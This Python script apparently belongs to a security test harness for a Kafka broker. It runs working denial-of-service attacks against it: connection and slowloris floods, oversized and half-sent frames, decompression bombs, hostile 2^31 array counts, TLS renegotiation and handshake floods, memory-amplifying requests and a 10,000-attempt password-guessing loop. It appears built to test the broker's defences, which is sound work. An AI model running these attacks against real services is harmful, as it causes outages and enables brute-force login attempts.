#!/usr/bin/env python3
"""attackers.py ATTACK: one attack, by a process of its own.

It is told by JSON on standard input where the broker listens and how long it may take, says `ready` when the attack is
under way, and at the end what came of it, as JSON.
"""

import contextlib
import json
import pathlib
import resource
import select
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time

HERE = pathlib.Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
sys.path.insert(0, str(HERE.parent / "lib"))
sys.path.insert(0, str(HERE.parent / "security"))

import array_counts  # noqa: E402
import bombs  # noqa: E402
import kafka_messages as kafka  # noqa: E402
from raw_connection import RawConnection, request_header  # noqa: E402
from raw_login import authenticate, handshake, plain  # noqa: E402

PATIENCE_SECONDS = 30
READY_SECONDS_MAX = 120
GUESSING_SECONDS_MAX = 240
JOIN_GROUP, OFFSET_COMMIT, FIND_COORDINATOR = 11, 8, 10
SASL_AUTHENTICATION_FAILED = 58
SHORT_TEXT_MAX = 32767
SENT_AT_ONCE_BYTES = 64 << 10


class Attack:
    """Where, how long, how much; and what came of it."""

    def __init__(self, orders):
        self.sasl, self.tls, self.topic = orders["sasl"], orders["tls"], orders["topic"]
        self.user, self.password = orders["user"], orders["password"]
        self.scale = orders["scale"]  # 1: all of it.
        self.seconds = orders["seconds"]  # From the moment when all attackers are there.
        self.ends_at = time.monotonic() + READY_SECONDS_MAX
        self.counts = {}
        self.lock = threading.Lock()
        self.is_ready = False

    def is_on(self):
        return time.monotonic() < self.ends_at

    def ready(self):
        if not self.is_ready:
            self.is_ready = True
            self.ends_at = time.monotonic() + self.seconds
            print("ready", flush=True)

    def count(self, what, by=1):
        with self.lock:
            self.counts[what] = self.counts.get(what, 0) + by

    def scaled(self, number):
        return max(1, int(number * self.scale))

    def stranger(self):
        connection = RawConnection(self.sasl, PATIENCE_SECONDS)
        # Many kernels do not interrupt a system call: one that copies megabytes would keep the good client, which shares
        # this processor, from it for milliseconds.  The broker gets the same bytes as fast.
        connection.socket.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, SENT_AT_ONCE_BYTES)
        return connection

    def logged_in(self):
        connection = self.stranger()
        handshake(connection, "PLAIN")
        said = authenticate(connection, plain(self.user, self.password))
        if said is None or said[0] != 0:
            raise ConnectionError(f"cannot log in: {said}")
        return connection

    def in_threads(self, number, work):
        """`work` again and again, by so many at once, until the time is over.  What fails is counted and tried again."""
        def repeat():
            while self.is_on():
                try:
                    work()
                except (OSError, EOFError) as error:
                    self.count(type(error).__name__)
                    time.sleep(0.01)
        threads = [threading.Thread(target=repeat) for _ in range(number)]
        for thread in threads:
            thread.start()
        self.ready()
        for thread in threads:
            thread.join()


class Crowd:
    """Many connections that do nothing but be there; those that the broker closes are made anew."""

    def __init__(self, attack, number, greet=lambda connected: None):
        self.attack, self.number, self.greet = attack, number, greet
        self.poll = select.epoll()
        self.members = {}

    def fill(self):
        host, port = self.attack.sasl.rsplit(":", 1)
        while len(self.members) < self.number and self.attack.is_on():
            try:
                member = socket.create_connection((host, int(port)), timeout=PATIENCE_SECONDS)
                self.greet(member)
            except OSError as error:
                self.attack.count(type(error).__name__)
                return
            member.setblocking(False)
            self.members[member.fileno()] = member
            self.poll.register(member.fileno(), select.EPOLLIN | select.EPOLLRDHUP)
            self.attack.count("opened")

    def drop_closed(self, seconds):
        for descriptor, _ in self.poll.poll(seconds):
            member = self.members[descriptor]
            with contextlib.suppress(OSError):
                if member.recv(4096):
                    continue
            self.drop(descriptor)

    def drop(self, descriptor):
        self.attack.count("closed by the broker")
        self.poll.unregister(descriptor)
        self.members.pop(descriptor).close()


def silent(attack):
    """Thousands connect and say nothing."""
    crowd = Crowd(attack, attack.scaled(5000))
    while attack.is_on():
        crowd.fill()
        attack.ready()
        crowd.drop_closed(0.2)
    attack.count("present at the end", len(crowd.members))


def slowloris(attack):
    """Each announces as much as a stranger may send, and sends it byte by byte."""
    crowd = Crowd(attack, attack.scaled(2000), lambda member: member.sendall(struct.pack(">i", 500_000)))
    while attack.is_on():
        crowd.fill()
        attack.ready()
        for descriptor, member in list(crowd.members.items()):
            try:
                member.send(b"x")
                attack.count("bytes sent")
            except OSError:
                crowd.drop(descriptor)
        crowd.drop_closed(0.5)


def announced_2gb(attack):
    """Strangers announce a frame of 2 GB."""
    def announce():
        with attack.stranger() as connection:
            connection.send_raw(struct.pack(">i", 2**31 - 1) + bytes(1000))
            attack.count("closed" if connection.receive() is None else "answered")
    attack.in_threads(4, announce)


def fat_frames(attack):
    """Who has logged in announces 90 MB, sends a tenth of it and then nothing."""
    part = bytes(1 << 20)

    def begin_and_stop():
        with attack.logged_in() as connection:
            connection.socket.settimeout(2)
            connection.send_raw(struct.pack(">i", 90_000_000))
            for _ in range(9):
                connection.send_raw(part)
                attack.count("MiB sent")
            while attack.is_on() and not select.select([connection.socket], [], [], 0.2)[0]:
                pass
    attack.in_threads(attack.scaled(20), begin_and_stop)


def unfolding(attack):
    """Small batches that unfold to much."""
    made = list(bombs.bombs())

    def throw():
        with attack.logged_in() as connection:
            for name, batch in made:
                if not attack.is_on():
                    return
                said = kafka.produce(connection, attack.topic, 0, batch)
                attack.count(f"{name}: {'closed' if said is None else said.error}")
                if said is None:
                    return
    attack.in_threads(2, throw)


def play_counts(attack, connect):
    """Counts of 2^31 in each array of each request, once through at least."""
    hostile = list(array_counts.hostile_requests())
    hostile = hostile[::max(1, int(1 / attack.scale))]
    attack.ready()
    while True:
        for what, frame in hostile:
            with connect() as connection:
                try:
                    attack.count("closed" if connection.call(frame) is None else "answered")
                except TimeoutError:
                    attack.count(f"NOTHING: {what}")
        if not attack.is_on():
            return


def counts_before_login(attack):
    play_counts(attack, attack.stranger)


def counts_after_login(attack):
    play_counts(attack, attack.logged_in)


def wrong_logins(attack):
    """Ten thousand wrong passwords, of users who are there and of others."""
    left = [attack.scaled(10_000)]

    def guess():
        with attack.lock:
            left[0] -= 1
            number = left[0]
        if number < 0:
            attack.ends_at = 0
            return
        with attack.stranger() as connection:
            handshake(connection, "PLAIN")
            said = authenticate(connection, plain("alice" if number % 2 else f"user{number}", f"guess{number}"))
            attack.count("refused" if said is not None and said[0] == SASL_AUTHENTICATION_FAILED else f"SAID {said}")
    attack.seconds = GUESSING_SECONDS_MAX
    attack.in_threads(min(100, attack.scaled(1000)), guess)


def tls_context():
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


def renegotiation(attack):
    """TLS 1.2 clients ask for a new handshake on the connection that they have."""
    def ask():
        client = subprocess.Popen(["openssl", "s_client", "-connect", attack.tls, "-tls1_2"],
                                  stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        time.sleep(0.3)
        with contextlib.suppress(OSError):
            client.stdin.write(b"R\n")
            client.stdin.flush()
        time.sleep(0.3)
        try:
            said, _ = client.communicate(timeout=5)
        except subprocess.TimeoutExpired:
            client.kill()
            said, _ = client.communicate()
        refused = b"no renegotiation" in said.lower().replace(b"_", b" ")
        attack.count("refused" if refused else "RENEGOTIATED" if b"RENEGOTIATING" in said else "not asked")
    attack.in_threads(2, ask)


def handshake_flood(attack):
    """Handshakes one after the other, and others that stop after their first message."""
    host, port = attack.tls.rsplit(":", 1)
    context = tls_context()

    def shake_hands():
        with socket.create_connection((host, int(port)), timeout=PATIENCE_SECONDS) as raw:
            with context.wrap_socket(raw):
                attack.count("handshakes")

    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing).do_handshake()
    hello = outgoing.read()
    half_open = []

    def stop_half_way():
        raw = socket.create_connection((host, int(port)), timeout=PATIENCE_SECONDS)
        raw.sendall(hello)
        half_open.append(raw)
        attack.count("half-open")
        if len(half_open) > attack.scaled(2000):
            half_open.pop(0).close()
    with contextlib.suppress(RuntimeError):
        threading.Thread(target=lambda: [stop_half_way() for _ in range(attack.scaled(2000)) if attack.is_on()],
                         daemon=True).start()
    attack.in_threads(8, shake_hands)


def giants(attack):
    """Client ids, group ids, members' metadata and names of topics as large as they can be, and never the same."""
    numbers = iter(range(1 << 30))

    def text(size):
        with attack.lock:
            return str(next(numbers)).rjust(size, "g")

    def header(key, version):
        return request_header(key, version, 1, text(SHORT_TEXT_MAX))

    def play(connection):
        kinds = {
            "metadata": header(kafka.METADATA, 1) + struct.pack(">i", 5000) + b"".join(
                kafka.string(text(249)) for _ in range(5000)),
            "coordinator": header(FIND_COORDINATOR, 0) + kafka.string(text(SHORT_TEXT_MAX)),
            "member": header(JOIN_GROUP, 0) + kafka.string(text(SHORT_TEXT_MAX)) + struct.pack(">i", 6000)
            + kafka.string("") + kafka.string("consumer") + struct.pack(">i", 1) + kafka.string("range")
            + struct.pack(">i", 500_000) + bytes(500_000),
            "offset": header(OFFSET_COMMIT, 2) + kafka.string(text(200)) + struct.pack(">i", -1) + kafka.string("")
            + struct.pack(">qi", -1, 1) + kafka.string(attack.topic) + struct.pack(">iiq", 1, 0, 0)
            + kafka.string(text(SHORT_TEXT_MAX)),
        }
        for kind, frame in kinds.items():
            if not attack.is_on():
                return
            connection.send(frame)
            # A member may wait for others: nobody here waits with it.
            if kind == "member":
                connection.socket.settimeout(0.2)
                try:
                    answer = connection.receive()
                except TimeoutError:
                    attack.count("member: waits")
                    return
                connection.socket.settimeout(PATIENCE_SECONDS)
            else:
                answer = connection.receive()
            attack.count(f"{kind}: {'closed' if answer is None else 'answered'}")
            if answer is None:
                return

    def connect_and_play():
        with attack.logged_in() as connection:
            play(connection)
    attack.in_threads(4, connect_and_play)


def empty_names(attack):
    """Frames of millions of empty names: small on the wire, many times that in memory."""
    names = 5_000_000
    frame = request_header(kafka.METADATA, 1, 1) + struct.pack(">i", names) + bytes(2 * names)

    def ask():
        with attack.logged_in() as connection:
            answer = connection.call(frame)
            attack.count("closed" if answer is None else "answered")
    attack.in_threads(attack.scaled(8), ask)


def slow_readers(attack):
    """Ask for much and read nothing."""
    names = b"".join(kafka.string(f"nobody-has-a-topic-of-this-name-{number}") for number in range(20_000))
    question = request_header(kafka.METADATA, kafka.METADATA_VERSION, 1) + struct.pack(">i", 20_000) + names

    def ask():
        with attack.logged_in() as connection:
            connection.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            connection.send(question)
            attack.count("asked")
            # Not a byte is read: only whether the broker has given up is looked at.
            poll = select.poll()
            poll.register(connection.socket, select.POLLRDHUP)
            while attack.is_on():
                if poll.poll(200):
                    attack.count("closed by the broker")
                    return
    attack.in_threads(attack.scaled(200), ask)


ATTACKS = {attack.__name__.replace("_", "-"): attack for attack in (
    silent, slowloris, announced_2gb, fat_frames, unfolding, counts_before_login, counts_after_login, wrong_logins,
    renegotiation, handshake_flood, giants, empty_names, slow_readers)}


def main():
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    attack = Attack(json.loads(sys.stdin.readline()))
    ATTACKS[sys.argv[1]](attack)
    print(json.dumps(attack.counts), flush=True)


if __name__ == "__main__":
    main()
